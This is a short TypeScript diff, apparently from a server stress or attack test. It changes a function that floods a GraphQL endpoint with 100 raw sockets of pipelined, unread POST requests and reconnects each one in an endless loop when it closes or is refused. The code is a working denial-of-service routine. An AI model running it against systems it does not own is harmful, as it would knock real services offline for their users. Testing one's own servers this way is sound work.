@@ -84,12 +84,18 @@ async function unread({ hub }: Attacked): Promise<void> {
   const { hostname, port } = new URL(hub);
   const head = `POST /graphql HTTP/1.1\r\nhost: ${hostname}\r\nx-forwarded-for: 203.0.113.1\r\ncontent-type: application/json\r\n`;
   const piece = `${head}content-length: ${MANY_ROWS.length}\r\n\r\n${MANY_ROWS}`;
-  const sockets = Array.from({ length: 100 }, () => {
+  const open = async (): Promise<void> => {
     const socket = connect(Number(port), hostname).pause();
-    socket.on('error', () => undefined).write(piece.repeat(5));
-    return once(socket, 'close');
-  });
-  await Promise.all(sockets);
+    socket.write(piece.repeat(5));
+    await once(socket, 'close');
+  };
+  // connections that are not read do not keep a thread alive
+  setInterval(() => undefined, 1_000);
+  await Promise.all(
+    Array.from({ length: 100 }, async () => {
+      for (;;) await open().catch(() => undefined);
+    }),
+  );
 }
 
 /** As many sockets and different subscriptions as one client gets, opened again when refused. */
